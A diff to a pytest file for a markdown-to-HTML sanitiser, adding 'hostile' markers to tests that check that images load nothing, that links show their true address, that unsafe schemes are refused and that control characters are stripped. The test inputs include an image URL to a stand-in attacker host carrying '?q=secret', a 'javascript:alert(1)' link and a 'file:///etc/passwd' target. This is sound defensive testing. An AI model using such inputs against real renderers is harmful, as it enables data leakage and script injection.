@@ -38,6 +38,7 @@ def test_only_known_citations_become_anchors() -> None:
     assert "[9]" in markup
 
 
+@pytest.mark.hostile("F2")
 def test_an_image_stays_text_and_loads_nothing() -> None:
     markup = to_html("![x](https://evil.example/?q=secret) <img src=http://evil.example>")
     assert tags(markup) == {"p", "a"}  # the bare address is offered as a link, which asks first
@@ -45,6 +46,7 @@ def test_an_image_stays_text_and_loads_nothing() -> None:
     assert "![x](https://evil.example/?q=secret)" in markup
 
 
+@pytest.mark.hostile("F2")
 def test_a_link_shows_its_real_address() -> None:
     markup = to_html("[harmless](https://evil.example/a?b=c)")
     assert "harmless (" in markup
@@ -57,21 +59,25 @@ def test_a_link_shows_its_real_address() -> None:
 @pytest.mark.parametrize(
     "target", ["file:///etc/passwd", "javascript:alert(1)", r"\\host\share", "https://user@evil.example/", "http:///x", "//x/y"]
 )
+@pytest.mark.hostile("F2")
 def test_other_addresses_are_no_links(target: str) -> None:
     assert "<a" not in to_html(f"[x]({target})")
     assert link_target("ask:" + target) == ""
 
 
+@pytest.mark.hostile("F9")
 def test_controls_and_direction_marks_are_taken_out() -> None:
     assert clean("\x1b[31mred\x1b[0m \x1b]0;title\x07a\u202eb\u2066c\u200b\ufeff\x00d\U000e0041") == "red abcd"
     assert clean("a\r\nb\u2028c\td") == "a\nb\nc\td"
 
 
+@pytest.mark.hostile("F9")
 def test_a_long_text_is_cut() -> None:
     assert len(clean("a" * (MAX_CHARACTERS + 5))) == MAX_CHARACTERS
 
 
 @given(st.text(alphabet="<>&\"'[]()!*_`#>-+| \n1。、甲ahttps:/.\\~", max_size=300))
+@pytest.mark.hostile("F9")
 def test_no_input_makes_another_tag_or_attribute(text: str) -> None:
     for match in _TAG.finditer(to_html(text, cited={1, 11})):
         assert match.group(2) in ALLOWED
